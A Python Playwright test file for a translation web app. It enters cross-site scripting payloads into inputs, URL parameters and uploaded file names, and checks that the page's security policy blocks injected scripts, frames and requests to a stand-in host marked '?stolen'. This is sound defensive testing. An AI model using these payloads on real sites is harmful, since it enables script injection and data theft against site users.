"""Hostile values in every place that takes one, in a real Chromium: they are shown as text, nothing of them runs, and what
would run all the same is stopped by the page's policy. `open_page` fails on any error or policy violation in the console."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from contextlib import contextmanager
from itertools import cycle
from pathlib import Path
from urllib.parse import quote

import pytest
from playwright.sync_api import BrowserContext, Page

from tests.browser.conftest import drawn, settled
from tests.browser.test_translate_page import french, translate

RUN = "window.ran=1"
VALUES = {
    "image": f'<img src=x onerror="{RUN}"> dog',
    "template": f"${{{RUN}}} dog",
    "end of script": f"</script><script>{RUN}</script> dog",
    "attribute": f'"><svg onload={RUN}> dog',
    "quote": f"' autofocus onfocus='{RUN} dog",
    "link": f'<a href="javascript:{RUN}">dog</a>',
    "address": f"javascript:{RUN}//dog",
    "markdown": f"[dog](javascript:{RUN}) ![dog](x) **dog**",
    "braces": f'{{{{constructor.constructor("{RUN}")()}}}} dog',
    "formula": f"$\\href{{javascript:{RUN}}}{{dog}}$ dog",
    "frame": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe> dog',
    "direction": "a \u202edog\u2066 <b>dog</b> \u200f\u061c dog",
    "polluting": '{"__proto__": {"ran": 1}} __proto__ constructor dog',
    "comment": "--> <!-- dog ]]> <![CDATA[ dog",
}
PAIRS = tuple(map(" ".join, zip(*[iter(VALUES.values())] * 2, strict=True)))
"""Two at a time, where each costs a translation. An address and JSON are dangerous at the beginning only, and stand there."""
ANYTHING = """() => window.ran || ({}).ran || document.querySelectorAll(
    'img[src="x"], [onerror], [onload], [onfocus], iframe, a[href^="javascript" i], main svg script'
).length"""
"""Whether something ran, or stands there as markup."""


WAIT = {
    "translate": "#attention-view .xtick",
    "compare": "#right-map .xtick",
    "inside": ".inside-box",
}
"""What stands there when a link has been answered."""


def assert_nothing_ran(page: Page) -> None:
    assert not page.evaluate(ANYTHING)


def test_typed_into_translate_and_asked_about(open_page: Callable[..., Page]) -> None:
    page = open_page()
    page.locator("#ask > button").click()
    page.locator("#ask-question label", has_text="Your translation").click()
    page.wait_for_selector("#ask-target textarea", state="visible")
    page.wait_for_timeout(500)
    page.locator("#take-menu > button").click()
    for i, value in enumerate(PAIRS):
        translate(page, value)
        assert french(page)
        assert_nothing_ran(page)
        if i > 1:  # the panel is the same view, and slow
            continue
        box = page.locator("#ask-target textarea")
        box.fill(value)
        box.press("Enter")
        settled(page, "#ask-said", "Your translation")
        page.wait_for_selector("#ask-view .lens-chip")
        assert_nothing_ran(page)
    page.get_by_text("The numbers behind the picture").click()
    page.wait_for_timeout(500)
    assert_nothing_ran(page)


def test_as_the_text_of_a_link(open_page: Callable[..., Page]) -> None:
    page = None
    for value, tab in zip(PAIRS, cycle(WAIT)):
        page = open_page(f"?tab={tab}&text={quote(value)}&reference={quote(value)}", wait_for=WAIT[tab], page=page)
        page.wait_for_timeout(300)
        assert_nothing_ran(page)


@pytest.mark.parametrize("tab", ["translate", "compare", "inside", "batch"])
def test_as_everything_else_that_a_link_says(open_page: Callable[..., Page], tab: str) -> None:
    hostile = quote(" ".join(VALUES.values())[:900])
    names = ("checkpoint", "left", "right", "beam", "unit", "eos", "present", "__theme", "lang", "view", "__lang")
    query = "&".join(f"{name}={hostile}" for name in names)
    page = open_page(f"?text=A+dog&{query}&tab={tab}", wait_for="#lens-header")
    page.wait_for_timeout(1500)
    assert_nothing_ran(page)


def test_typed_into_compare_and_inside(open_page: Callable[..., Page]) -> None:
    page = open_page("?tab=compare", wait_for="#right-map .xtick")
    page.emulate_media(reduced_motion="reduce")  # without the replay
    for value in PAIRS:
        for place, key in (("#reference", None), ("#compare-text", "Enter")):
            box = page.locator(f"{place} textarea")
            if not box.is_visible():
                page.get_by_text("Models, beam, reference").click()
                box.wait_for(state="visible")
            box.fill(value)
            if key:
                box.press(key)
        settled(page, "#duet, #right-map", value.split()[-1])
        page.wait_for_timeout(300)
        assert_nothing_ran(page)
    page.get_by_role("tab", name="Inside").click()
    page.wait_for_selector("#inside-text textarea")
    drawn(page)
    for value in PAIRS:
        box = page.locator("#inside-text textarea")
        box.fill(value)
        box.press("Enter")
        page.wait_for_timeout(500)
        assert_nothing_ran(page)


def test_in_a_file_and_as_its_name(open_page: Callable[..., Page], tmp_path: Path) -> None:
    path = tmp_path / f"<img src=x onerror={RUN}> ${{{RUN}}} \u202e.csv"
    path.write_text("".join('"' + value.replace('"', '""') + '",x\n' for value in VALUES.values()), encoding="utf-8")
    page = open_page("?tab=batch", wait_for="#batch-run >> visible=true")
    page.locator("#batch-file input[type=file]").set_input_files(path)
    page.wait_for_function("() => document.querySelector('#batch-file').innerText.includes('img')")
    page.locator("#batch-run").click()
    settled(page, "#batch-status", f"{len(VALUES)} lines translated")
    assert page.locator("#batch-table tbody tr").count() == len(VALUES)
    for i, value in enumerate(VALUES.values()):
        assert value.split()[-1] in page.locator("#batch-table tbody tr").nth(i).inner_text()
    assert page.locator("#batch-table :is(img, svg, a, b, iframe, script)").count() == 0
    assert_nothing_ran(page)


def test_in_a_file_of_pairs_and_as_clauses(open_page: Callable[..., Page], tmp_path: Path) -> None:
    path = tmp_path / f"<img src=x onerror={RUN}>.tsv"
    path.write_text("".join(f"{value}\t{value}\n" for value in VALUES.values()), encoding="utf-8")
    page = open_page("?tab=compare", wait_for="#right-map .xtick")
    page.locator("#own-file input[type=file]").set_input_files(path)
    page.wait_for_function("() => document.querySelector('#own-file').innerText.includes('img')")
    page.locator("#own-run").click()
    page.wait_for_selector("#own-status table")
    page.get_by_text("All sentences").click()
    settled(page, "#own-table", "dog")
    page.get_by_text("Your own clauses").click()
    box = page.get_by_label("One clause a line")
    box.wait_for(state="visible")
    box.fill("\n".join(f"{value.replace('=', '')} = {value.replace('=', '')}" for value in list(VALUES.values())[:8]))
    page.locator("#grow").click()
    page.wait_for_timeout(3000)
    page.locator("#own-chart").scroll_into_view_if_needed()
    page.wait_for_timeout(500)
    assert_nothing_ran(page)


def test_a_refusal_of_the_guard_is_said_on_the_page(server: str, visitor: Callable[[str], BrowserContext]) -> None:
    said = "Too many questions: 5 at once are the limit."
    page = visitor("en-US").new_page()  # the browser itself tells of the refusal as an error
    page.goto(f"{server}/?tab=batch")
    page.wait_for_selector("#batch-run >> visible=true", timeout=60_000)
    page.route("**/queue/join**", lambda route: route.fulfill(status=429, json={"detail": said}))
    page.locator("#batch-text textarea").fill("A dog sleeps.", timeout=60_000)
    page.locator("#batch-run").click()
    page.get_by_text(said).first.wait_for(timeout=60_000)
    page.close()


# -- what the policy stops, if something gets by all the same --------------------------------------------------------

SLIPPED_IN = {
    "an inline handler": f"""document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="{RUN}">')""",
    "an inline script": f"""(() => {{ const s = document.createElement('script');
        s.textContent = '{RUN}'; document.body.append(s); }})()""",
    "a script of another host": """(() => { const s = document.createElement('script');
        s.src = 'http://127.0.0.1:1/x.js'; document.body.append(s); })()""",
    "a script in its own address": f"""(() => {{ const s = document.createElement('script');
        s.src = 'data:text/javascript,{RUN}'; document.body.append(s); }})()""",
    "a frame": f"""document.body.insertAdjacentHTML('beforeend',
        '<iframe srcdoc="<script>parent.{RUN}</script>"></iframe><iframe src="http://127.0.0.1:1/"></iframe>')""",
    "a link that is a script": f"""(() => {{ const a = document.createElement('a');
        a.href = 'javascript:{RUN}'; document.body.append(a); a.click(); }})()""",
    "a message to another host": "fetch('http://127.0.0.1:1/?stolen').catch(() => 0)",
    "a picture of another host": "document.body.insertAdjacentHTML('beforeend', '<img src=http://127.0.0.1:1/?stolen>')",
    "a form to another host": """(() => { document.body.insertAdjacentHTML('beforeend',
        '<form id=f action=http://127.0.0.1:1/ ></form>'); document.querySelector('#f').submit(); })()""",
    "a worker": f"""(() => {{ try {{ new Worker(URL.createObjectURL(new Blob(['{RUN}']))) }} catch (e) {{}} }})()""",
    "another base": "document.head.insertAdjacentHTML('afterbegin', '<base href=http://127.0.0.1:1/>')",
}


@contextmanager
def watched(context: BrowserContext) -> Iterator[Page]:
    """For the page, where violations of its policy are kept instead of failing the test: what was stopped, and where from."""
    page = context.new_page()
    page.add_init_script(
        "window.violations = []; document.addEventListener('securitypolicyviolation', (e) =>"
        " window.violations.push(`${e.effectiveDirective} ${e.blockedURI} ${e.sourceFile}:${e.lineNumber}`))"
    )
    page.set_default_timeout(60_000)
    yield page
    page.close()


@pytest.fixture(scope="module")
def watching(visitor: Callable[[str], BrowserContext]) -> Iterator[Page]:
    with watched(visitor("en-US")) as page:
        yield page


OPENED = {
    "?tab=translate": "#attention-view .xtick",
    "?tab=translate&lang=fr": "#attention-view .xtick",
    "?tab=compare&lang=zh": "#right-map .xtick",
    "?tab=inside": ".inside-box",
    "?tab=batch": "#batch-run >> visible=true",
    "?present=1": "body.presenting .lens-plot .xtick",
}


@pytest.mark.parametrize("query", OPENED)
def test_the_page_itself_violates_nothing(server: str, watching: Page, query: str) -> None:
    """On no tab, with everything on it opened, in no language."""
    page = watching
    page.goto(f"{server}/{query}")
    page.wait_for_selector(OPENED[query])
    closed = page.locator(".label-wrap:not(.open) >> visible=true")  # Gradio's accordions
    for _ in range(closed.count()):
        closed.first.click()
        page.wait_for_timeout(300)
    for menu in page.locator("#take-menu > button, #take-both-menu > button, #ask > button").all():
        if menu.is_visible():
            menu.click()
    page.wait_for_timeout(1000)
    assert page.evaluate("typeof window.lensTexts") == "object", "the script that the visitor's language brought ran"
    assert page.evaluate("window.violations") == []


@pytest.fixture(scope="module")
def page_of_ones_own(server: str, visitor: Callable[[str], BrowserContext]) -> Iterator[Page]:
    with watched(visitor("en-US")) as page:
        page.goto(server)
        page.wait_for_selector(".lens-chip")
        yield page


@pytest.mark.parametrize("what", SLIPPED_IN)
def test_the_policy_stops(page_of_ones_own: Page, what: str) -> None:
    page, asked = page_of_ones_own, []
    page.on("response", lambda response: asked.append(response.url) if ":1/" in response.url else None)
    page.evaluate("window.violations = []")
    page.evaluate(f"() => {{ {SLIPPED_IN[what]}; }}")
    page.wait_for_function("() => window.violations.length > 0", timeout=30_000)
    assert not page.evaluate("window.ran") and asked == []
    assert page.locator("#lens-header").is_visible(), "still the page"
